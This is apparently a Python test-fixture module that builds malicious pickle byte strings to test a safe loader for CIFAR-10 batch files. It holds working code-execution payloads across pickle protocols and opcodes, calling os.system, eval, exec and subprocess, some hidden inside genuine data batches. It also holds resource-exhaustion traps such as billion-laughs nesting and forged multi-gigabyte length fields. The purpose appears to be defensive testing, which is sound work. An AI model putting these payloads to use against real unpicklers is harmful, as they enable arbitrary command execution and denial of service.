"""Pickles that do harm when an unpickler reads them, and others that ask for what no machine has."""

from pathlib import Path

from cifar_files import cifar10_pickle

GENUINE = cifar10_pickle(bytes(range(256)) * 48, [3, 9, 0, 1])


def short(text: bytes) -> bytes:
    """A string of protocol 2, at most 255 bytes long."""
    return b"U" + bytes([len(text)]) + text


def unicode(text: bytes) -> bytes:
    """A string of protocol 4."""
    return b"\x8c" + bytes([len(text)]) + text


def exploits(marker: Path) -> dict[str, bytes]:
    """Pickles that make the file `marker` when an unpickler reads them."""
    touch = f"touch {marker}".encode()
    program = f"open({str(marker)!r}, 'w').close()".encode()
    system = b"cos\nsystem\n"
    stacked = unicode(b"os") + unicode(b"system") + b"\x93"
    run_map = b"c__builtin__\nmap\ncos\nsystem\n(" + short(touch) + b"l\x86"
    called = unicode(touch) + b"\x85R."
    frame = stacked + called
    inner = system + b"(" + short(touch) + b"tR."
    namespace = b"ctypes\nSimpleNamespace\n)"
    set_state = b"}" + short(b"__setstate__") + system + b"sb" + short(touch) + b"b."
    return {
        "protocol 0": system + b"(S'" + touch + b"'\ntR.",
        "protocol 1": system + b"(" + short(touch) + b"tR.",
        "protocol 2": b"\x80\x02" + system + short(touch) + b"\x85R.",
        "protocol 3": b"\x80\x03" + system + b"X" + len(touch).to_bytes(4, "little") + touch + b"\x85R.",
        "protocol 4": b"\x80\x04\x95" + len(frame).to_bytes(8, "little") + frame,
        "protocol 5": b"\x80\x05\x95" + len(frame).to_bytes(8, "little") + frame,
        "posix": b"cposix\nsystem\n(" + short(touch) + b"tR.",
        "eval": b"cbuiltins\neval\n(" + short(program) + b"tR.",
        "exec by its old name": b"\x80\x02c__builtin__\nexec\n" + short(program) + b"\x85R.",
        "subprocess": b"csubprocess\ncall\n((S'touch'\n" + short(str(marker).encode()) + b"ltR.",
        "timeit": b"ctimeit\ntimeit\n(" + short(program) + b"S'pass'\nctime\nperf_counter\nI1\ntR.",
        "INST": b"(" + short(touch) + b"ios\nsystem\n.",
        "OBJ": b"(" + system + short(touch) + b"o.",
        "NEWOBJ": b"\x80\x02c__builtin__\ntuple\n" + run_map + b"\x81\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04cbuiltins\ntuple\n" + run_map.replace(b"__builtin__", b"builtins") + b"}\x92\x85}\x92.",
        "BUILD": b"\x80\x02" + namespace + b"R" + set_state,
        "BUILD after NEWOBJ": b"\x80\x02" + namespace + b"\x81" + set_state,
        "STACK_GLOBAL": b"\x80\x04" + frame,
        "STACK_GLOBAL, a dotted name": b"\x80\x04"
        + unicode(b"shutil")
        + unicode(b"os.system")
        + b"\x93"
        + frame[len(stacked) :],
        "EXT1": b"\x80\x02ccopyreg\nadd_extension\n(U\x02osU\x06systemK\x77tR0\x82\x77" + short(touch) + b"\x85R.",
        "copyreg": b"\x80\x02ccopyreg\n__newobj__\nc__builtin__\ntuple\n" + run_map + b"\x81\x86R.",
        "a pickle in a pickle": b"\x80\x03c_pickle\nloads\nC" + bytes([len(inner)]) + inner + b"\x85R.",
        "in front of a genuine batch": b"\x80\x02" + system + short(touch) + b"\x85R0" + GENUINE[2:],
        "behind a genuine batch": GENUINE[:-1] + system + short(touch) + b"\x85R0.",
        "in place of numpy's dtype": GENUINE.replace(
            b"cnumpy\ndtype\n", system + short(touch) + b"\x85R0cnumpy\ndtype\n"
        ),
        "in place of a label": GENUINE.replace(b"K\x03K\x09", system + short(touch) + b"\x85RK\x09", 1),
    }


# What runs nothing, but asks for what no machine has, for names that we do not know, or for endless work.
TRAPS = {
    "persistent id": b"Pos.system\n.",
    "persistent id from the stack": b"\x80\x02U\x05touchQ.",
    "unregistered extension": b"\x80\x02\x84\xff\xff\xff\x7f.",
    "laughs": b"\x80\x02]q\0" + b"".join(b"](h%ch%ceq%c" % (i, i, i + 1) for i in range(27)) + b".",
    "a list in itself": b"\x80\x02]q\0h\0a.",
    "lists in lists": b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b".",
    "tuples in tuples": b"\x80\x02}U\x01aN" + b"\x85" * 200_000 + b"u.",
    "tuples in tuples as a value": b"\x80\x02}(U\x01aN" + b"\x85" * 200_000 + b"u.",
    "marks": b"\x80\x02" + b"(" * 200_000 + b".",
    "LONG4 of 2 GB": b"\x80\x02\x8b\xff\xff\xff\x7f1.",
    "LONG1": b"\x80\x02\x8a\xff" + b"\x7f" * 255 + b".",
    "a number of a million digits": b"I" + b"9" * 1_000_000 + b"\n.",
    "BINSTRING of 4 GB": b"\x80\x02T\xff\xff\xff\xff.",
    "BINBYTES8 of 8 EB": b"\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\x7f.",
    "BINUNICODE8 of 16 EB": b"\x80\x04\x8d\xff\xff\xff\xff\xff\xff\xff\xff.",
    "BYTEARRAY8 of 1 TB": b"\x80\x05\x96\0\0\0\0\0\1\0\0.",
    "FRAME of 1 TB": b"\x80\x04\x95\0\0\0\0\0\1\0\0.",
    "memo of 4 billion places": b"\x80\x02}r\xff\xff\xff\xff.",
    "a wild BINGET": b"\x80\x02j\xff\xff\xff\x7f.",
    "an array of 16 GB": GENUINE.replace(b"K\x04M\0\x0c\x86", b"J\0\0\0\x40K\x10\x86"),
    "an array of objects": GENUINE.replace(b"U\x02u1", b"U\x02O8"),
    "an array of negative size": GENUINE.replace(b"K\x04M\0\x0c\x86", b"J\xfc\xff\xff\xffJ\0\xf4\xff\xff\x86"),
    "out-of-band buffer": b"\x80\x05\x97\x98.",
    "nothing": b".",
    "no STOP": GENUINE[:-1],
    "two batches": GENUINE + GENUINE,
}
